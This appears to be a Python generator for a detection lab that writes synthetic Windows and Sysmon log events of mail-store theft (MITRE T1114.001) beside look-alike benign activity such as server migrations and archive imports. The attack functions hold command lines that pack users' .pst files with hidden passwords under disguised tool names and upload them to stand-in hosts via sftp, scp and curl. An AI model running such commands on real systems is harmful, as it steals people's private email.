"""Families of T1114.001: mail stores packed by tools under other names, servers that are moved, archives imported."""

from __future__ import annotations

from xml.sax.saxutils import escape

from lab.families.mail import HOUR, a_time, attack, innocent, sysmon
from lab.families.story import Story

ROBOCOPY = "C:\\Windows\\System32\\Robocopy.exe"
SERVER = "FS-02.contoso.com"
PEOPLE = ("dana", "lee", "kim", "noor", "sam", "ines", "jo", "max")


def process_audited(story: Story, at: float, program: str, line: str, account: str) -> None:
    """Security 4688 on the server: a process with its command line, without the original name of its file."""
    data = {
        "SubjectUserName": account,
        "SubjectDomainName": "CONTOSO",
        "NewProcessName": program,
        "CommandLine": line,
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
    }
    text = (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4688</EventID>"
        f"<EventRecordID>{story.rng.randrange(10**6)}</EventRecordID><Channel>Security</Channel>"
        f"<Computer>{SERVER}</Computer></System><EventData>"
        + "".join(f"<Data Name='{name}'>{escape(value)}</Data>" for name, value in data.items())
        + "</EventData></Event>"
    )
    story.other(at, "raw", sourcetype="XmlWinEventLog", source="XmlWinEventLog:Security", text=text)


def mirrored(story: Story, at: float, line: str, user: str, tree: str, documents: int, stores: int) -> None:
    """A run of robocopy on the server that writes documents and mail stores of several people under `tree`."""
    rng = story.rng
    sysmon(story, at, 1, ROBOCOPY, CommandLine=line, User=user, Computer=SERVER)
    for number in range(documents + stores):
        person = rng.choice(PEOPLE)
        name = f"Documents\\Outlook Files\\old{number}.pst" if number < stores else f"Documents\\plan{number}.docx"
        target = f"{tree}\\{person}\\{name}"
        sysmon(story, at + rng.uniform(5, 1800), 11, ROBOCOPY, TargetFilename=target, User=user, Computer=SERVER)


@attack
def stores_are_packed_and_only_the_command_line_shows_it(story: Story) -> None:
    """An archiver or copy tool under another name; the log has neither its original name nor the files it wrote."""
    rng = story.rng
    place = rng.choice(("C:\\PerfLogs", "C:\\ProgramData\\t", "C:\\Users\\Public", "C:\\Intel\\Logs"))
    program = f"{place}\\{rng.choice(('r', 'svch', 'upd', 'z1', 'log'))}.exe"
    store = rng.choice(("D:\\home\\*.pst", "D:\\home\\dana\\old.pst", '"D:\\home\\lee\\my mail.pst"'))
    secret = f"{rng.getrandbits(24):06x}"
    called = rng.choice(
        (
            f"a -r -v{rng.randrange(50, 500)}m -hp{secret} -inul {place}\\a.rar {store}",
            f"a -m{rng.randrange(1, 6)} -p{secret} {place}\\a.dat {store}",
            f"a -t7z -mhe=on -p{secret} {place}\\a.7z {store}",
            f"u -mx9 {place}\\a.zip {store}",
            f"-czf {place}\\a.tgz {store}",
            f"-r -P {secret} {place}\\a.zip {store}",
            f"/y {store} /vss /d {place}\\a.tmp",
            f"/c copy {store} {place}\\a.tmp",
        )
    )
    line = rng.choice((program, f'"{program}"'))
    process_audited(story, a_time(story), program, f"{line} {called}", rng.choice(("adm_lee", "svc_sql", "dana")))
    story.attackers.add("fs-02")


@attack
def mirror_as_a_cover(story: Story) -> None:
    """The tool of those who move servers: asks for stores, writes little else, or goes where no server's data lies."""
    rng, at = story.rng, a_time(story)
    user, drive = "CONTOSO\\svc_filemig", rng.choice(("D:", "E:"))
    tree, switches, documents, stores = f"{drive}\\home", "/MIR", rng.randrange(100, 160), rng.randrange(3, 8)
    sign = rng.choice(("pattern", "little else", "place", "share", "person", "large files"))
    if sign == "pattern":
        switches = "*.pst *.ost /MIR"
    elif sign == "little else":
        documents = rng.randrange(0, 20)
    elif sign == "place":
        tree = rng.choice(("C:\\ProgramData\\h", "C:\\PerfLogs\\h", "D:\\Temp\\h", "C:\\Users\\Public\\h"))
    elif sign == "share":
        tree = rng.choice(("\\\\ws-077\\c$\\h", "\\\\192.0.2.9\\drop"))
    elif sign == "person":
        user = "CONTOSO\\dana"
    else:
        switches = "/MIR /MIN:200000000"
    mirrored(story, at, f"robocopy \\\\fs01\\home$ {tree} {switches} /R:1", user, tree, documents, stores)
    story.attackers.add("fs-02")


@innocent
def file_server_is_moved(story: Story) -> None:
    """A service account mirrors every home to the data drive of the new server, at night or for a weekend."""
    rng = story.rng
    tree = rng.choice(("D:\\home", "E:\\Shares\\Users Data", "F:\\dfs\\homes"))
    to = f'"{tree}"' if " " in tree else tree
    more = rng.choice(
        ("/COPYALL /MT:32", "/SEC /R:1 /W:1 /LOG:C:\\Logs\\move.log", "/MT:16 /XD $RECYCLE.BIN /XF *.tmp")
    )
    user = rng.choice(("CONTOSO\\svc_filemig", "CONTOSO\\svc-migration", "NT AUTHORITY\\SYSTEM"))
    line = f"robocopy \\\\fs01\\home$ {to} /MIR {more}"
    mirrored(story, 19 * HOUR, line, user, tree, rng.randrange(120, 220), rng.randrange(3, 9))


@innocent
def archives_are_imported_and_messages_packed(story: Story) -> None:
    """Old archives go into Microsoft 365 with the tools meant for it; a person packs one message; the backup runs."""
    rng, at = story.rng, 9 * HOUR
    host = f"{rng.getrandbits(92):023x}"
    target = f"https://{host}.blob.core.windows.net/ingestiondata?sv=2024-01-01&sig={rng.getrandbits(32):x}"
    azcopy = "C:\\Tools\\azcopy.exe"
    for number in range(rng.randrange(1, 12)):
        line = f'azcopy.exe copy "\\\\fs01\\import\\old{number}.pst" "{target}"'
        process_audited(story, at + number * 300, azcopy, line, "adm_lee")
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    line = "powershell -c New-MailboxImportRequest -Mailbox dana -FilePath \\\\fs01\\import\\old.pst"
    process_audited(story, at + HOUR, shell, line, "adm_lee")
    packer = rng.choice(("C:\\Program Files\\7-Zip\\7z.exe", "C:\\Program Files\\Zipper\\zipper.exe"))
    own = "C:\\Users\\dana\\Documents"
    line = f'"{packer}" a {own}\\case.zip {own}\\offer.{rng.choice(("msg", "eml"))}'
    process_audited(story, at + 2 * HOUR, packer, line, "dana")
    agent = "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Manager.exe"
    process_audited(story, 2 * HOUR, agent, f'"{agent}" a -r -p D:\\b.zip D:\\home\\old.pst', "FS-02$")


@attack
def store_is_sent_or_taken_by_a_stranger(story: Story) -> None:
    """A program without a name takes a store: its line is all there is. Or Outlook itself saves one aside."""
    rng, at = story.rng, a_time(story)
    store = rng.choice(("C:\\Users\\dana\\Documents\\old.pst", "D:\\t\\b1.pst", "C:\\PerfLogs\\o.ost"))
    folder = rng.choice(
        (
            "/mnt/c/Users/dana/AppData/Local/Microsoft/Outlook",
            "%LOCALAPPDATA%\\Microsoft\\Outlook",
            "\\\\?\\C:\\Users\\dana\\AppData\\Local\\MICROS~1\\Outlook\\*.os?",
        )
    )
    program = f"C:\\ProgramData\\{rng.choice(('u', 'svc', 'sync', 'x1'))}.exe"
    host = rng.choice(("203.0.113.77", "drop.example.net"))
    if rng.random() < 0.25:
        place = rng.choice(("C:\\ProgramData\\USOShared\\Logs", "C:\\Windows\\Tasks", "C:\\PerfLogs"))
        outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
        sysmon(story, at, 11, outlook, TargetFilename=f"{place}\\b{rng.randrange(9)}.pst")
    else:
        called = rng.choice(
            (
                f'/command "open sftp://up:x@{host}/" "put {store}"',
                f"-P 22 {store} up@{host}:/in/",
                f"copy {store} cloud:in --transfers 4",
                f"-T {store} https://{host}/in",
                f"{store} C:\\Users\\Public\\o.bin",
                f'-e bash -c "tar -C {folder} -cf - . | xz > /t/o.xz"',
                f"c -x {store} C:\\t\\o.zip",
            )
        )
        process_line = f"{program} {called}"
        sysmon(story, at, 1, program, CommandLine=process_line, User="CONTOSO\\dana")
    story.attackers.add("ws-014")


@innocent
def agents_read_and_distribution_gathers(story: Story) -> None:
    """Search and data-loss agents read stores in place, at night all of them; IT gathers archives on a server."""
    rng = story.rng
    agent = f"C:\\Program Files\\{rng.choice(('Endpoint', 'Desk Search', 'Archive Scan'))}\\agent.exe"
    for number in range(rng.randrange(6, 14)):
        store = f"C:\\Users\\dana\\Documents\\Outlook Files\\old{number % 5}.pst"
        by = rng.choice(("NT AUTHORITY\\SYSTEM", "CONTOSO\\dana"))
        facts = {"ProcessName": agent, "ObjectName": store, "User": by, "Computer": "WS-014.contoso.com"}
        story.other(3 * HOUR + number * 240, "security", **facts)
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    script = "powershell.exe -NoProfile -File C:\\Windows\\ccmcache\\1k\\Gather.ps1"
    for number in range(rng.randrange(2, 6)):
        computer, at = f"PC-{1000 + number}", 11 * HOUR + number * 900
        system = {"User": "NT AUTHORITY\\SYSTEM", "Computer": f"{computer}.contoso.com"}
        sysmon(story, at, 1, shell, ParentImage="C:\\Windows\\CCM\\CcmExec.exe", CommandLine=script, **system)
        line = f'robocopy "C:\\Users\\{PEOPLE[number]}\\Documents\\Outlook Files" \\\\fs01\\pst$\\{computer} *.pst /Z'
        sysmon(story, at + 30, 1, ROBOCOPY, ParentImage=shell, CommandLine=line, **system)
